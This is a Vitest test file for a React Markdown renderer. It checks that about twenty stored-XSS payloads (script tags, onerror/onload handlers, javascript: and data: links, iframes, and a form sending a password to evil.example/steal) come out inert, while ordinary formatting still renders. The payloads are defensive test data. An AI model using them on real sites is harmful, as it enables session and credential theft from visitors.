import { renderToString } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown.tsx";

/**
 * Stored-XSS attempts an admin account (or a stolen one) could put into game content, guides or
 * any other rich field. The Markdown component is the one renderer of rich content: the public
 * pages and the admin preview both use it, so what it renders here is what visitors get.
 */
const ATTACKS = {
  "script tag": "<script>alert('xss')</script>",
  "script split across Markdown": "Hello <script\n>alert(1)</script\n> world",
  "img onerror": `<img src="x" onerror="alert('xss')">`,
  "svg onload": "<svg onload=alert(1)><circle r=10 /></svg>",
  "inline event handler": `<div onclick="alert(1)" onmouseover='alert(2)'>hover me</div>`,
  "javascript: link in Markdown": "[click me](javascript:alert(1))",
  "javascript: link in HTML": `<a href="javascript:alert(1)">click me</a>`,
  "mixed-case javascript: link": `<a href="JaVaScRiPt:alert(1)">click me</a>`,
  "entity-encoded javascript: link": `<a href="&#106;avascript:alert(1)">click me</a>`,
  "whitespace-prefixed javascript: link": `<a href=" javascript:alert(1)">click me</a>`,
  "data: URL link": `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click me</a>`,
  "javascript: image source": `![pic](javascript:alert(1))`,
  iframe: `<iframe src="https://evil.example/"></iframe>`,
  "iframe with srcdoc": `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  "object and embed": `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
  "form posting elsewhere": `<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>`,
  "style tag": "<style>body { display: none }</style>",
  "meta refresh": `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  "base tag": `<base href="https://evil.example/">`,
  "link tag": `<link rel="stylesheet" href="https://evil.example/x.css">`,
  "formaction on a button": `<button formaction="javascript:alert(1)">x</button>`,
} as const;

function render(source: string) {
  // React 19 adds `<link rel="preload" as="image">` hints for images it renders: its own, not the content's.
  return renderToString(<Markdown>{source}</Markdown>).replace(/<link rel="preload" as="image" href="[^"]*"\/>/g, "");
}

describe("the Markdown renderer makes stored-XSS attempts inert", () => {
  it.each(Object.entries(ATTACKS))("%s", (_name, attack) => {
    const html = render(`Intro paragraph.\n\n${attack}\n\nClosing paragraph.`);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<(iframe|object|embed|form|style|meta|base|link)\b/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/(href|src|action|formaction)\s*=\s*"\s*(javascript|data|vbscript):/i);
    expect(html).not.toMatch(/javascript:/i);
    // The content around the attack still renders.
    expect(html).toContain("<p>Intro paragraph.</p>");
    expect(html).toContain("<p>Closing paragraph.</p>");
  });

  it("keeps an image without its handler", () => {
    expect(render(ATTACKS["img onerror"])).toBe('<div class="prose-story"><img src="x"/></div>');
  });

  it("keeps the formatting writers use: headings, emphasis, lists, tables, safe links", () => {
    const html = render(
      [
        "## The Court",
        "",
        "The **empress** _waits_.",
        "",
        "- one",
        "- two",
        "",
        "| a | b |",
        "| - | - |",
        "| 1 | 2 |",
        "",
        "[Guides](/guides) and [a site](https://example.com)",
        "",
        "<p>Raw <strong>HTML</strong> is allowed.</p>",
      ].join("\n"),
    );
    expect(html).toContain("<h2>The Court</h2>");
    expect(html).toContain("<strong>empress</strong>");
    expect(html).toContain("<em>waits</em>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<table>");
    expect(html).toContain('<a href="/guides">Guides</a>');
    expect(html).toContain('<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">a site</a>');
    expect(html).toContain("<p>Raw <strong>HTML</strong> is allowed.</p>");
  });
});
